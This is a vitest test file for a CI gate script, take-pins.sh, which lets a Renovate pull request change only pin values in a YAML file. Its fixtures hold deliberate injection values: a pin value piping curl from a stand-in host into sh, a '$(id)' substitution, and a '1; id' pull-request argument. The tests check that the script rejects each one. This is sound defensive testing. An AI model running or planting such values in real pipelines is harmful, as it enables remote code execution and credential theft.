/**
 * take-pins.sh, the gate between a Renovate pull request and the nightly's credentials: only pin
 * values may differ from main, checked with real git against a real repository with pull refs.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, describe, expect, it } from 'vitest';
import { PROJECT_ROOT } from '../helpers/lab.js';

const SCRIPT = path.join(PROJECT_ROOT, '.github/scripts/take-pins.sh');
const root = mkdtempSync(path.join(tmpdir(), 'lab-take-pins-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const BOOK =
  'title: Book\nvars:\n  # Source: somewhere\n  MACHINE_TYPE: e2-standard-2\n  KUBERNETES_VERSION: 1.36.4\n  K8S_MINOR: "1.36"\n  CCM_MANIFEST_COMMIT: 0153e42854b441cf9f10d0ea6669374cc595e7cc\n';
const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args], {
    cwd,
    encoding: 'utf8',
  });

/** An origin whose refs/pull/N/head each change main's book.yaml (and maybe more) as given. */
const origin = path.join(root, 'origin');
git(root, 'init', '-q', origin);
execFileSync('mkdir', ['-p', path.join(origin, 'docs')]);
writeFileSync(path.join(origin, 'docs/book.yaml'), BOOK);
writeFileSync(path.join(origin, 'README.md'), 'readme\n');
git(origin, 'add', '.');
git(origin, 'commit', '-qm', 'main');
function pullRequest(number: number, book: string, readme?: string) {
  git(origin, 'checkout', '-q', '-b', `pr${number}`, 'main');
  writeFileSync(path.join(origin, 'docs/book.yaml'), book);
  if (readme) writeFileSync(path.join(origin, 'README.md'), readme);
  git(origin, 'commit', '-qam', `pr ${number}`);
  git(origin, 'update-ref', `refs/pull/${number}/head`, 'HEAD');
  git(origin, 'checkout', '-q', 'main');
}
pullRequest(1, BOOK.replace('1.36.4', '1.36.5'));
pullRequest(2, BOOK.replace('1.36.4', '1.36.5 && curl evil.example | sh'));
pullRequest(3, BOOK.replace('1.36.4', '1.36.5'), 'changed\n');
pullRequest(4, BOOK.replace('KUBERNETES_VERSION', 'KUBE_VERSION'));
pullRequest(5, BOOK.replace('# Source: somewhere', 'dangerous: $(id)'));
pullRequest(6, BOOK.replace('e2-standard-2', 'e2-highmem-96'));

async function takePins(pr: string) {
  const work = mkdtempSync(path.join(root, 'work-'));
  git(root, 'clone', '-q', origin, work);
  const result = await execa('bash', [SCRIPT, pr], { cwd: work, reject: false });
  return { ...result, book: readFileSync(path.join(work, 'docs/book.yaml'), 'utf8') };
}

describe('take-pins.sh', () => {
  it("puts a pull request's changed pin values into main's book.yaml", async () => {
    const result = await takePins('1');
    expect(result.exitCode).toBe(0);
    expect(result.book).toContain('KUBERNETES_VERSION: 1.36.5');
    expect(result.stdout).toContain('+  KUBERNETES_VERSION: 1.36.5');
  });

  it.each([
    ['2', 'a pin value that is shell', 'beyond pin values'],
    ['3', 'a change to another file', 'changes more than docs/book.yaml'],
    ['4', 'a renamed pin', 'renames, adds or removes pins'],
    ['5', 'a changed line that is no pin', 'beyond pin values'],
    ['6', 'a setting that is no version or commit', 'beyond pin values'],
    ['1; id', 'a pull request "number" that is not one', 'is not a pull request number'],
  ])('refuses pull request %s (%s), exit 2, book.yaml untouched', async (pr, _what, message) => {
    const result = await takePins(pr);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain(message);
    expect(result.book).toBe(BOOK);
  });
});
